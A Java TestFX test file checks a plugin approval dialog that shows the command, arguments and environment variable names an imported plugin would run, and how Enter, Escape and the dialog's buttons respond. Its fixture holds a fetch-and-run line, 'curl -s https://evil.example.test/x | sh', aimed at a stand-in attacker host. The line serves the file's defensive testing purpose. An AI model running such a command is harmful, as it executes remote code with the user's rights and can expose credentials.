package dev.backstack.panel.views.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.TimeUnit;
import javafx.scene.Node;
import javafx.scene.control.Button;
import javafx.scene.control.Dialog;
import javafx.scene.control.Label;
import javafx.scene.input.KeyCode;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.testfx.api.FxRobot;
import org.testfx.api.FxToolkit;
import org.testfx.util.WaitForAsyncUtils;

/** T28: the approval dialog shows what would run and answers to Enter, Escape and its buttons. */
class PluginApprovalDialogUiTest {

    static {
        // The views module's surefire has no headless arguments (the app module's has): same
        // settings as ${headless.fx} in the parent pom, set before the toolkit starts.
        System.setProperty("testfx.robot", "glass");
        System.setProperty("testfx.headless", "true");
        System.setProperty("prism.order", "sw");
        System.setProperty("prism.text", "t2k");
        System.setProperty("glass.platform", "Monocle");
        System.setProperty("monocle.platform", "Headless");
        System.setProperty("java.awt.headless", "true");
        System.setProperty("headless.geometry", "1600x1000-32");
    }

    private static final PluginApprovalDialog.Plugin CURL_PIPE_SH = new PluginApprovalDialog.Plugin(
            "imported-prod",
            "/home/me/Downloads/prod.yaml",
            "sh",
            "-c \"curl -s https://evil.example.test/x | sh\"",
            List.of("AWS_PROFILE", "EVIL_TOKEN"));

    private final FxRobot robot = new FxRobot();
    private Dialog<Boolean> dialog;

    @BeforeAll
    static void toolkit() throws Exception {
        FxToolkit.registerPrimaryStage();
    }

    @AfterEach
    void closeDialog() throws Exception {
        if (dialog != null) {
            onFx(() -> {
                if (dialog.isShowing()) {
                    dialog.setResult(false);
                    dialog.close();
                }
                return null;
            });
        }
    }

    private void show(PluginApprovalDialog.Plugin plugin) throws Exception {
        dialog = onFx(() -> {
            Dialog<Boolean> d = PluginApprovalDialog.create(null, plugin);
            d.show();
            d.getDialogPane().getScene().getWindow().requestFocus();
            return d;
        });
        WaitForAsyncUtils.waitFor(
                10,
                TimeUnit.SECONDS,
                () -> onFx(() -> dialog.getDialogPane().getScene().getWindow().isFocused()));
    }

    private void awaitClosed() throws Exception {
        WaitForAsyncUtils.waitFor(10, TimeUnit.SECONDS, () -> onFx(() -> !dialog.isShowing()));
    }

    private static <T> T onFx(Callable<T> read) throws Exception {
        return WaitForAsyncUtils.asyncFx(read).get(10, TimeUnit.SECONDS);
    }

    private String text(String id) throws Exception {
        return onFx(() -> ((Label) dialog.getDialogPane().lookup("#" + id)).getText());
    }

    @Test
    @DisplayName("shows context, file, command, args, env names (no values) and the warning")
    void showsWhatWouldRun() throws Exception {
        show(CURL_PIPE_SH);

        assertThat(text("plugin-context")).isEqualTo("imported-prod");
        assertThat(text("plugin-file")).isEqualTo("/home/me/Downloads/prod.yaml");
        assertThat(text("plugin-command")).isEqualTo("sh");
        assertThat(text("plugin-args")).isEqualTo("-c \"curl -s https://evil.example.test/x | sh\"");
        assertThat(text("plugin-env")).isEqualTo("AWS_PROFILE, EVIL_TOKEN (values not shown)");
        assertThat(text("plugin-warning")).contains("with your user's rights");
        assertThat(onFx(() -> dialog.getHeaderText())).contains("imported-prod");
        List<String> buttons = onFx(() -> dialog.getDialogPane().getButtonTypes().stream()
                .map(type -> ((Button) dialog.getDialogPane().lookupButton(type)).getText())
                .toList());
        assertThat(buttons).containsExactlyInAnyOrder("Run this plugin", "Don't run");
    }

    @Test
    @DisplayName("Enter runs the plugin (default button)")
    void enterApproves() throws Exception {
        show(CURL_PIPE_SH);

        robot.type(KeyCode.ENTER);

        awaitClosed();
        assertThat(onFx(() -> dialog.getResult())).isTrue();
    }

    @Test
    @DisplayName("Escape does not run it (cancel button)")
    void escapeRefuses() throws Exception {
        show(CURL_PIPE_SH);

        robot.type(KeyCode.ESCAPE);

        awaitClosed();
        assertThat(onFx(() -> dialog.getResult())).isFalse();
    }

    @Test
    @DisplayName("the buttons answer as labelled")
    void buttonsAnswerAsLabelled() throws Exception {
        show(CURL_PIPE_SH);
        robot.clickOn(onFx(() -> (Node) dialog.getDialogPane().lookupButton(PluginApprovalDialog.DONT_RUN)));
        awaitClosed();
        assertThat(onFx(() -> dialog.getResult())).isFalse();

        show(new PluginApprovalDialog.Plugin("eks", "/tmp/k.yaml", "aws", "", List.of()));
        assertThat(text("plugin-args")).isEqualTo("(none)");
        assertThat(text("plugin-env")).isEqualTo("(none)");
        robot.clickOn(onFx(() -> (Node) dialog.getDialogPane().lookupButton(PluginApprovalDialog.RUN)));
        awaitClosed();
        assertThat(onFx(() -> dialog.getResult())).isTrue();
    }
}
